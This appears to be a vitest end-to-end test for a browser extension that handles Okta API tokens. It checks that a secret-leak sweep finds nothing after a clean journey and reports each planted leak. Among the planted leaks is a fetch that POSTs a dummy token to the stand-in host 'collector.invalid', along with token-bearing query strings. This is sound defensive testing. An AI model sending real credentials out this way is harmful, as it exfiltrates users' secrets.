import { expect, it } from 'vitest';
import type { browser as ExtensionBrowser } from 'wxt/browser';
import { pollUntil } from '../drivers/poll';
import { clickButton, openPopup, testIdText } from './admin';
import { hubFormValues, hubStatus, openHubPage } from './linking';
import { pasteToken } from './resilience';
import type { JourneyWorld } from './world';

/*
 * The sweep every journey ends with (support/secrets.ts, run by useSweptWorld) must be able to fail, in each
 * browser: after a clean journey it finds nothing, and each kind of leak it looks for is reported once planted.
 */

declare const chrome: typeof ExtensionBrowser;

const TOKEN = '00SweepTestToken_abcdefghijklmnopqrstuvwxy';

const escapeRegExp = (text: string) => text.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&');

export function sweepJourneys(world: () => JourneyWorld): void {
  it('the token sweep finds nothing after the hub took the token, then reports each planted leak', async () => {
    const w = world();
    const okta = await pasteToken(w, w.driver, TOKEN);
    const hubTab = await openHubPage(w);
    const hubPopup = await openPopup(w.driver, hubTab);
    await pollUntil(
      () => testIdText(hubPopup, 'fill-finding'),
      (finding) => finding?.includes('Okta form') ?? false,
      { what: "the hub's form", timeoutMs: 20_000 },
    );
    await clickButton(hubPopup, 'Fill hub form');
    await pollUntil(
      () => hubFormValues(hubTab),
      (values) => values.api_token === TOKEN,
      { what: 'the fill' },
    );
    // Before the hub's Connect the form holds the token, as it must; the sweep only asks once it is taken.
    expect(await w.secrets.findLeaks()).toEqual([]);
    await hubTab.bringToFront();
    await clickButton(hubTab, 'Connect');
    await pollUntil(
      () => hubStatus(hubTab),
      (status) => status.startsWith('Connected: acc_'),
      {
        what: "the hub's success",
      },
    );
    expect(w.hub.accounts[0]?.credentials).toMatchObject({ api_token: TOKEN });
    expect(await w.secrets.findLeaks()).toEqual([]);

    await hubTab.evaluate((token) => {
      document.body.dataset.kept = token;
    }, TOKEN);
    await okta.evaluate((token) => {
      console.info(`token ${token}`);
      return fetch(`/api/v1/users/me?token=${token}`).then((response) => response.status);
    }, TOKEN);
    await hubTab.evaluate(
      ([token, backend]) => fetch(`${backend}/hub/settings?token=${token}`).catch(() => null),
      [TOKEN, w.hub.backendOrigin] as const,
    );
    await hubTab.evaluate(
      (token) => fetch('http://collector.invalid/', { method: 'POST', body: token }).catch(() => null),
      TOKEN,
    );
    await okta.evaluate((token) => {
      document.body.append(Object.assign(document.createElement('okta-link-assistant'), { title: token }));
    }, TOKEN);
    await hubPopup.evaluate((token) => document.body.append(token), TOKEN);
    await w.driver.inExtension((token) => chrome.storage.local.set({ kept: token }), TOKEN);
    // A line from a content script's isolated world, where the guide and the hub filler run.
    const oktaTab = await w.driver.tabIdOf(okta);
    await w.driver.inExtension(
      ([tabId, token]) =>
        chrome.scripting.executeScript({
          target: { tabId },
          world: 'ISOLATED',
          func: (value: string) => console.warn(`isolated ${value}`),
          args: [token],
        }),
      [oktaTab, TOKEN] as const,
    );
    const leaks = await pollUntil(
      async () => (await w.secrets.findLeaks()).join('\n'),
      (found) => found.includes('isolated 00Sweep'),
      { what: "the isolated world's console line to reach the sweep" },
    );
    expect(leaks).toMatch(/^hub page .* holds 00Sw…vwxy/m);
    expect(leaks).toMatch(/^console: .*token 00Sweep/m);
    expect(leaks).toMatch(/^console: .*isolated 00Sweep/m);
    expect(leaks).toMatch(/^Okta request GET .*acme-admin\.okta\.com.*\/api\/v1\/users\/me\?token=/m);
    expect(leaks).toMatch(/^hub request GET \/hub\/settings\?token=/m);
    expect(leaks).toMatch(/^browser request POST http:\/\/collector\.invalid\//m);
    expect(leaks).toMatch(/^guide overlay on http:\/\/acme-admin\.okta\.com/m);
    expect(leaks).toMatch(
      new RegExp(`^extension page ${escapeRegExp(w.driver.extensionOrigin)}/popup\\.html`, 'm'),
    );
    expect(leaks).toMatch(/^storage\.local holds/m);
    // The link request itself carries it, in its credentials: that is where it belongs.
    expect(leaks).not.toMatch(/POST \/hub\/accounts|POST http:\/\/127\.0\.0\.1:\d+\/hub\/accounts/);

    // The world's own sweep after this journey must pass: take the plants away again.
    await w.driver.inExtension(() => chrome.storage.local.remove('kept'));
    await w.driver.reset();
    w.okta.reset();
    w.hub.reset();
    w.secrets.reset();
  });
}
